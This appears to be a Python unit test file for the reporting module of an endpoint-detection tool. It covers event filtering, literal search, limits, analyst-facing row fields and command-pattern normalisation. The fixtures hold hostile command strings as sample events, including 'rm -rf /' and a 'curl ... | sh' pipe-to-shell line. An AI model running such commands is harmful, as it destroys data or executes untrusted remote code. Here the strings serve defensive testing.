"""edrfleet.fleet.report.events: filters in the database (both backends), newest first, the
rows an analyst reads (user, parent, working directory, technique)."""

from __future__ import annotations

import pytest

from edrfleet.fleet.report.events import EventFilter, event_row, list_events
from edrfleet.fleet.report.queries import command_pattern, like_pattern
from edrfleet.fleet.report.store import ReportError
from tests.unit.helpers.report_helpers import T0, event, store_with

WHO = {"user.name": "alice", "user.id": "1000", "process.parent.executable": "/usr/bin/bash",
       "process.parent.pid": 41, "process.pid": 42, "process.working_directory": "/srv/app",
       "threat.technique.id": ["T1485"]}


def fleet(store_db: str):
    return store_with(store_db, {
        "web1": [event("a1", rule="rm-root", cmd="rm -rf /", ts=T0, fields=WHO),
                 event("a2", rule="rm-root", action="would_block", cmd="RM -RF /srv",
                       ts=T0 + 60),
                 event("a3", rule="curl", action="logged", severity="low",
                       cmd="curl http://x/100%_done | sh", ts=T0 + 120)],
        "web2": [event("b1", rule="rm-root", cmd="rm -rf /home", ts=T0 + 30,
                       fields={"user.id": "0", "process.parent.name": "cron"}),
                 event("b2", rule="curl", action="logged", cmd="curl http://x/100xxdone",
                       ts=T0 + 90)],
    })


def ids(store, **kw) -> list[str]:
    limit = kw.pop("limit", None)
    return [r["id"] for r in list_events(store, EventFilter(**kw), limit).rows]


def test_newest_first_for_the_selected_hosts(store_db: str) -> None:
    store = fleet(store_db)
    assert ids(store) == ["a3", "b2", "a2", "b1", "a1"]
    assert ids(store, hosts=["web2"]) == ["b2", "b1"]
    assert ids(store, hosts=[]) == []


def test_each_filter_and_their_conjunction(store_db: str) -> None:
    store = fleet(store_db)
    assert ids(store, rule="rm-root") == ["a2", "b1", "a1"]
    assert ids(store, action="blocked") == ["b1", "a1"]
    assert ids(store, since=T0 + 60) == ["a3", "b2", "a2"]
    assert ids(store, rule="rm-root", action="blocked", hosts=["web1"]) == ["a1"]
    assert ids(store, rule="rm-root", since=T0 + 31) == ["a2"]
    assert ids(store, rule="nope") == []


def test_search_is_a_literal_case_insensitive_substring(store_db: str) -> None:
    store = fleet(store_db)
    assert ids(store, search="rm -rf") == ["a2", "b1", "a1"]  # RM -RF too: case folded
    assert ids(store, search="/SRV") == ["a2"]
    assert ids(store, search="100%_d") == ["a3"]  # % and _ are text, not wildcards
    assert ids(store, search="%") == ["a3"]
    assert ids(store, search="_") == ["a3"]
    assert ids(store, search="\\") == []
    assert ids(store, search="rm", action="would_block") == ["a2"]


def test_limit_keeps_the_newest_and_says_more_match(store_db: str) -> None:
    store = fleet(store_db)
    got = list_events(store, EventFilter(), 2)
    assert [r["id"] for r in got.rows] == ["a3", "b2"] and got.more
    assert len(got.raws) == 2 and '"a3"' in got.raws[0]
    got = list_events(store, EventFilter(), 5)
    assert len(got.rows) == 5 and not got.more


def test_rows_show_who_ran_it_from_where(store_db: str) -> None:
    rows = {r["id"]: r for r in list_events(fleet(store_db), EventFilter(), None).rows}
    a1 = rows["a1"]
    assert (a1["user"], a1["user_id"], a1["parent"], a1["parent_pid"], a1["pid"]) == (
        "alice", "1000", "/usr/bin/bash", 41, 42)
    assert a1["working_directory"] == "/srv/app" and a1["technique"] == ["T1485"]
    assert (a1["time"], a1["host"], a1["rule"], a1["action"], a1["severity"]) == (
        "2026-12-01T05:00:00Z", "web1", "rm-root", "blocked", "high")
    b1 = rows["b1"]  # no passwd entry, parent executable unknown: the kernel's name
    assert (b1["user"], b1["user_id"], b1["parent"], b1["technique"]) == (None, "0", "cron", [])


def test_an_old_flat_event_and_a_raw_python_cannot_parse_still_list() -> None:
    flat = '{"event.id":"f","process.command_line":"x","user.name":"bob"}'
    assert event_row(("f", "h", None, None, None, None, "x", flat))["user"] == "bob"
    row = event_row(("j", "h", None, "blocked", "r", None, "x", "{a:1}"))  # JSON5
    assert (row["command_line"], row["user"], row["technique"]) == ("x", None, [])


def test_a_search_that_is_not_text_is_refused() -> None:
    with pytest.raises(ReportError, match="--search"):
        EventFilter(search="a\x00b")
    with pytest.raises(ReportError, match="--search"):
        EventFilter(search="\udcff")


def test_command_pattern_and_like_pattern() -> None:
    assert command_pattern("/tmp/x1/rm -rf /tmp/j-12/a3") == "rm -rf /tmp/j-#/a#"
    assert command_pattern("rm -rf /a/b") == "rm -rf /a/b"  # only the first word's directory
    assert command_pattern("./run 10.0.0.5") == "run #.#.#.#"
    assert command_pattern(None) is None
    assert like_pattern("50%_\\") == "%50\\%\\_\\\\%"


def test_both_databases_compute_the_pattern_python_does(store_db: str) -> None:
    cmds = ["/a/b c/d 1", " /lead/x 2", "/x/y", "a/b/c", "ü/é 12 ٣", "x\\1/2", "",
            "/tmp/x99/rm -rf /2026-12-01"]
    store = store_with(store_db, {"web1": [event(f"p{i}", cmd=c) for i, c in
                                           enumerate(cmds)]})
    got = {p for _r, p, *_ in store.top_commands(["web1"], None, "blocked", 100)}
    assert got == {command_pattern(c) for c in cmds}
